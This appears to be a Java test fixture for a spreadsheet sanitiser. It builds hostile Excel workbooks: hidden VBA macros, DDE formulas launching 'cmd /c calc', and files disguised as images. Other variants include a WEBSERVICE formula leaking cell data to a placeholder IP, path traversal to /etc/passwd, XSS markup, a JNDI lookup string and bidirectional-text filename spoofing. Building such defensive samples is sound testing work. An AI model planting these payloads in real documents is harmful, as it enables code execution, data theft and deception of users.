package uk.safersheets.hostile;

import static uk.safersheets.hostile.Filled.SHEET;
import static uk.safersheets.hostile.Filled.bytes;
import static uk.safersheets.hostile.Office.EXTERNAL;
import static uk.safersheets.hostile.Office.MACROSHEET;
import static uk.safersheets.hostile.Office.MAIN;
import static uk.safersheets.hostile.Office.MC;
import static uk.safersheets.hostile.Office.SPREADSHEET;
import static uk.safersheets.hostile.Office.external;
import static uk.safersheets.hostile.Office.formula;
import static uk.safersheets.hostile.Office.linked;
import static uk.safersheets.hostile.Office.ole;
import static uk.safersheets.hostile.Office.sheet;
import static uk.safersheets.hostile.Office.text;
import static uk.safersheets.hostile.Office.xml;

import java.util.function.Supplier;

/** Workbooks with programs, objects and links in them, or that programs read in different ways. */
enum PackageTrick implements HostileKind {
    MACROS(true, () -> linked("vbaProject", "xl/vbaProject.bin", "application/vnd.ms-office.vbaProject", ole())),
    MACROS_UNDER_ANOTHER_NAME(true, () -> linked("image", "xl/media/image1.png", "image/png", ole())),
    MACROS_UNLISTED(true, () -> Filled.zip().add("xl/vbaProject.bin", ole())),
    MACROS_BY_TYPE_ALONE(true, () -> linked("theme", "xl/a.xml", "application/vnd.ms-office.vbaProject", xml("<a/>"))),
    MACRO_SHEET(true, () -> sheet("xlMacrosheet", "application/vnd.ms-excel.macrosheet+xml", "veryHidden", MACROSHEET)),
    MACRO_SHEET_DISGUISED(true, () -> linked("theme", "xl/b.xml", "", xml(MACROSHEET))),
    DDE(
            true,
            () -> linked(
                    "externalLink",
                    "xl/externalLinks/externalLink1.xml",
                    EXTERNAL,
                    xml("<externalLink " + MAIN
                            + "><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>"))),
    OLE_LINK(
            true,
            () -> linked(
                    "externalLink",
                    "xl/externalLinks/externalLink1.xml",
                    EXTERNAL,
                    xml("<externalLink " + MAIN + "><oleLink progId=\"Excel\"/></externalLink>"))),
    OLE_OBJECT(true, () -> linked("oleObject", "xl/embeddings/oleObject1.bin", SPREADSHEET + "oleObject", ole())),
    OLE_OBJECT_UNLISTED(true, () -> Filled.zip().add("xl/embeddings/oleObject1.bin", ole())),
    PROGRAM(true, () -> Filled.zip().add("xl/media/image9.png", bytes("MZ\u0000\u0003program"))),
    SCRIPT(true, () -> Filled.zip().add("xl/media/image9.png", bytes("#!/bin/sh\nid\n"))),
    PACKAGE_IN_A_PACKAGE(true, () -> linked("package", "xl/embeddings/a.xlsx", "", Filled.workbook())),
    ACTIVE_X(
            true,
            () -> linked("control", "xl/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", xml("<o/>"))),
    ALTERNATIVE_SHEETS(
            true,
            () -> Filled.replaced(
                    Filled.WORKBOOK,
                    "<sheets>",
                    "<mc:AlternateContent " + MC
                            + "><mc:Choice Requires=\"x15\"><sheets><sheet name=\"Read me\" r:id=\"rId4\" sheetId=\"1\"/></sheets>"
                            + "</mc:Choice></mc:AlternateContent><sheets>")),
    ALTERNATIVE_ROWS(
            true,
            () -> Filled.replaced(
                    SHEET,
                    "<sheetData>",
                    "<sheetData><mc:AlternateContent " + MC
                            + "><mc:Choice Requires=\"x15\"><row r=\"1\"><c r=\"A1\"><v>1</v></c></row></mc:Choice></mc:AlternateContent>")),
    ROWS_OF_ANOTHER_NAMESPACE(
            true,
            () -> Filled.replaced(
                    SHEET,
                    "<sheetData>",
                    "<sheetData><x:row xmlns:x=\"urn:x\"" + " r=\"1\"><x:c r=\"A1\"><x:v>1</x:v></x:c></x:row>")),
    LINKS_OF_ANOTHER_NAMESPACE(
            true,
            () -> Filled.replaced(
                    Filled.LINKS,
                    "</Relationships>",
                    "<x:Relationship"
                            + " xmlns:x=\"urn:x\" Id=\"z\" Type=\"x/styles\" Target=\"/xl/styles.xml\"/></Relationships>")),
    RELATIONSHIP_TWICE(
            true,
            () -> Filled.replaced(
                    Filled.LINKS,
                    "</Relationships>",
                    "<Relationship Id=\"rId3\""
                            + " Type=\"x/worksheet\" Target=\"/xl/worksheets/sheet1.xml\"/></Relationships>")),
    TYPE_TWICE(
            true,
            () -> Filled.replaced(
                    Filled.TYPES,
                    "</Types>",
                    "<Override PartName=\"/xl/workbook.xml\""
                            + " ContentType=\"application/vnd.ms-excel.sheet.macroEnabled.main+xml\"/></Types>")),
    MACRO_TYPE(
            true,
            () -> Filled.replaced(
                    Filled.TYPES,
                    "application/vnd.openxmlformats-officedocument." + "spreadsheetml.sheet.main+xml",
                    "application/vnd.ms-excel.sheet.macroEnabled.main+xml")),
    REMOTE_IMAGE(false, () -> external("image", "http://203.0.113.7/pixel.png")),
    REMOTE_IMAGE_ON_A_SHARE(false, () -> external("image", "file://///203.0.113.7/share/a.png")),
    EXTERNAL_WORKBOOK(
            false,
            () -> Filled.replaced(
                            linked(
                                    "externalLink",
                                    "xl/externalLinks/externalLink1.xml",
                                    EXTERNAL,
                                    xml("<externalLink " + MAIN
                                            + "><externalBook xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/"
                                            + "relationships\" r:id=\"rId1\"/></externalLink>")),
                            SHEET,
                            "</sheetData>",
                            "<row r=\"900\"><c r=\"A900\"><f>[1]Sheet1!A1</f></c></row></sheetData>")
                    .add(
                            "xl/externalLinks/_rels/externalLink1.xml.rels",
                            xml("<Relationships xmlns=\"http://schemas."
                                    + "openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas."
                                    + "openxmlformats.org/officeDocument/2006/relationships/externalLinkPath\" Target=\"http://203.0."
                                    + "113.7/other.xlsx\" TargetMode=\"External\"/></Relationships>"))),
    CONNECTION(
            false,
            () -> linked(
                    "connections",
                    "xl/connections.xml",
                    SPREADSHEET + "connections+xml",
                    xml("<connections " + MAIN
                            + "><connection id=\"1\" name=\"c\" type=\"4\" refreshedVersion=\"0\"><webPr url=\"http://203.0.113.7/\"/>"
                            + "</connection></connections>"))),
    QUERY_TABLE(
            false,
            () -> linked(
                    "queryTable",
                    "xl/queryTables/queryTable1.xml",
                    "",
                    xml("<queryTable " + MAIN + " name=\"q\" connectionId=\"1\"/>"))),
    DDE_AS_A_FORMULA(false, () -> formula("cmd|' /C calc'!A0")),
    WEB_SERVICE(false, () -> formula("WEBSERVICE(\"http://203.0.113.7/\"&amp;A1)")),
    HYPERLINK(false, () -> formula("HYPERLINK(\"javascript:alert(1)\",\"x\")")),
    VERY_HIDDEN_SHEET(
            false,
            () -> sheet(
                    "worksheet",
                    SPREADSHEET + "worksheet+xml",
                    "veryHidden",
                    "<worksheet " + MAIN + "><sheetData/>" + "</worksheet>")),
    SHEET_GONE(false, () -> Filled.replaced(Filled.LINKS, "worksheets/sheet3.xml", "worksheets/sheet77.xml")),
    SHEET_IS_ITS_OWN_LINKS(
            false, () -> Filled.replaced(Filled.LINKS, "worksheets/sheet3.xml", "_rels/workbook.xml.rels")),
    MAIN_PART_IS_A_SHEET(false, () -> Filled.replaced("_rels/.rels", "xl/workbook.xml", SHEET)),
    LINK_OUT_OF_THE_PACKAGE(
            false, () -> Filled.replaced(Filled.LINKS, "worksheets/sheet3.xml", "../../../../etc/passwd")),
    LINK_WITH_A_BAD_ESCAPE(false, () -> Filled.replaced(Filled.LINKS, "worksheets/sheet3.xml", "worksheets/%zz.xml")),
    CONTROL_CHARACTERS(false, () -> text("a\u0001b\u001b[31m\u0007")),
    BIDIRECTIONAL(false, () -> text("\u202Egpj.exe\u202C \u2066x\u2069")),
    ZERO_WIDTH(false, () -> text("Rob\u200Bbery\u200D\uFEFF\u2060")),
    COMBINING(false, () -> text("a" + "\u0301".repeat(20_000))),
    LONE_SURROGATES(false, () -> text("&#xD800;&#xDFFF;")),
    MARKUP(false, () -> text("&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;")),
    PLACEHOLDERS(false, () -> text("{Partnership} {{7*7}} ${jndi:ldap://127.0.0.1/x} %n %s"));

    private final boolean refused;
    private final Supplier<RawZip> zip;

    PackageTrick(boolean refused, Supplier<RawZip> zip) {
        this.refused = refused;
        this.zip = zip;
    }

    @Override
    public byte[] make() {
        return zip.get().bytes();
    }

    /** Whether a filled workbook of this kind is refused; the others are checked, with a finding where that helps. */
    boolean isRefused() {
        return refused;
    }
}
